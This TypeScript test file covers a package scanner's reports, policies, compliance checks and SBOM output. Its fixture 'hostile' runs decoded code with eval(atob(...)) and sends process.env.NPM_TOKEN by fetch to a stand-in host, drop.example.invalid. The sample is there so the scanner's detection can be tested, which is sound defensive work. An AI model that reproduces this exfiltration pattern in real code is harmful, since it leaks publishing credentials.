import assert from "node:assert/strict";
import test from "node:test";

import {
  actionFor,
  checkCompliance,
  complianceProfiles,
  formatJsonReport,
  formatSarifReport,
  formatSbomReport,
  formatTextReport,
  parseScanPolicy,
  scanFile,
  scanPackage,
} from "@berth/scanner";
import { tryParseScanReport } from "@berth/spec";

const bytesOf = (text: string): Uint8Array => new TextEncoder().encode(text);
const hostile = {
  path: "a.js",
  bytes: bytesOf('eval(atob("MQ=="));\nfetch("https://drop.example.invalid/" + process.env.NPM_TOKEN);'),
};

test("the JSON report is what the specification says a scan report is", () => {
  const result = scanFile(hostile);
  assert.deepEqual(tryParseScanReport(JSON.parse(formatJsonReport([result]))), { results: [result] });
});

test("the SARIF report names every rule that it refers to, with places from 1", () => {
  const sarif = JSON.parse(formatSarifReport([scanFile(hostile)], "1.0.0")) as {
    version: string;
    runs: {
      tool: { driver: { rules: { id: string }[] } };
      results: {
        ruleId: string;
        ruleIndex: number;
        locations: { physicalLocation: { region: { startLine: number; startColumn: number } } }[];
      }[];
    }[];
  };
  const [run] = sarif.runs;
  assert.equal(sarif.version, "2.1.0");
  assert.ok(run !== undefined && run.results.length >= 2);
  for (const { ruleId, ruleIndex, locations } of run.results) {
    assert.equal(run.tool.driver.rules[ruleIndex]?.id, ruleId);
    const region = locations[0]?.physicalLocation.region;
    assert.ok((region?.startLine ?? 0) >= 1 && (region?.startColumn ?? 0) >= 1);
  }
});

test("an author's remark is shown in every report and changes neither score nor verdict", () => {
  const remarked = {
    path: "a.js",
    bytes: bytesOf('eval(atob("MQ==")); // berth-ignore runs-decoded-code: we mean it'),
  };
  const plain = scanFile({
    path: "a.js",
    bytes: bytesOf('eval(atob("MQ==")); // nothing to see here, honestly and for sure'),
  });
  const result = scanFile(remarked);
  assert.deepEqual([result.score, result.verdict], [plain.score, plain.verdict]);
  assert.equal(result.findings.find(({ rule }) => rule === "runs-decoded-code")?.suppressed, "we mean it");
  assert.match(formatTextReport([result]), /the author says: we mean it; counts all the same/u);
  assert.match(formatSarifReport([result], "1.0.0"), /"status": "rejected"/u);
});

test("the operator's policy waives a rule with a reason, which stays visible", () => {
  const policy = parseScanPolicy({
    rules: { "runs-decoded-code": { severity: "off", reason: "reviewed" } },
    verdicts: { review: "refuse" },
  });
  const before = scanFile(hostile);
  const after = scanFile(hostile, { policy });
  assert.ok(after.score >= before.score);
  assert.equal(after.findings.find(({ rule }) => rule === "runs-decoded-code")?.waived, "reviewed");
  assert.equal(actionFor("review", policy), "refuse");
  assert.deepEqual([actionFor("clean", undefined), actionFor("block", undefined)], ["allow", "refuse"]);
});

test("refuses policies that are not what they should be, by code", () => {
  for (const value of [
    undefined,
    [],
    { rule: {} },
    { rules: { "no-such-rule": { severity: "off", reason: "x" } } },
    { rules: { "runs-decoded-code": { severity: "tiny", reason: "x" } } },
    { rules: { "runs-decoded-code": { severity: "off" } } },
    { verdicts: { block: "maybe" } },
    { verdicts: { fine: "allow" } },
  ])
    assert.throws(() => parseScanPolicy(value), { code: "SCAN_POLICY_INVALID" });
});

test("a compliance profile passes or fails with the demand and the findings that break it", () => {
  const [baseline] = complianceProfiles;
  assert.ok(baseline !== undefined);
  const failed = checkCompliance(baseline, scanFile(hostile).findings);
  assert.equal(failed.passes, false);
  assert.ok(failed.failures.some((failure) => failure.class === "code-execution" && failure.findings.length > 0));
  assert.equal(
    checkCompliance(baseline, scanFile({ path: "a.js", bytes: bytesOf("export const two = 2;") }).findings).passes,
    true,
  );
});

test("the inventory is CycloneDX, the same for the same files, with packages, plugins and banners", () => {
  const files = [
    {
      path: "manifest.json",
      bytes: bytesOf('{"id":"acme.tidy","version":"1.2.3","license":"MIT","dependencies":{"acme.base":"^1.0"}}'),
    },
    {
      path: "package.json",
      bytes: bytesOf('{"name":"tidy","version":"1.2.3","dependencies":{"@scope/part":"2.0.1"}}'),
    },
    { path: "node_modules/inner/package.json", bytes: bytesOf('{"name":"inner","version":"0.1.0","license":"ISC"}') },
    {
      path: "plugin.js",
      bytes: bytesOf("/*! banner-lib v3.4.5 | Licensed under the MIT License */\nexport default 1;"),
    },
  ];
  const text = formatSbomReport("acme.tidy", files);
  assert.equal(formatSbomReport("acme.tidy", files), text);
  const bom = JSON.parse(text) as {
    bomFormat: string;
    specVersion: string;
    metadata: { component: { name: string; version: string } };
    components: { name: string; version?: string; purl?: string }[];
  };
  assert.deepEqual([bom.bomFormat, bom.specVersion, bom.metadata.component.name], ["CycloneDX", "1.6", "acme.tidy"]);
  const purls = bom.components.map(({ purl }) => purl);
  assert.ok(purls.includes("pkg:npm/%40scope/part@2.0.1"));
  assert.ok(purls.includes("pkg:npm/inner@0.1.0"));
  assert.ok(purls.includes("pkg:npm/banner-lib@3.4.5"));
  assert.ok(bom.components.some(({ name, version }) => name === "acme.base" && version === "^1.0"));
});

test("a report is worst first and says what to do", () => {
  const text = formatTextReport([scanPackage("p", [hostile])]);
  assert.match(text, /^p {2}block {2}0\/100\n {2}critical /u);
  assert.match(text, /\n {11}Put the code itself into the package, readable\.\n/u);
});
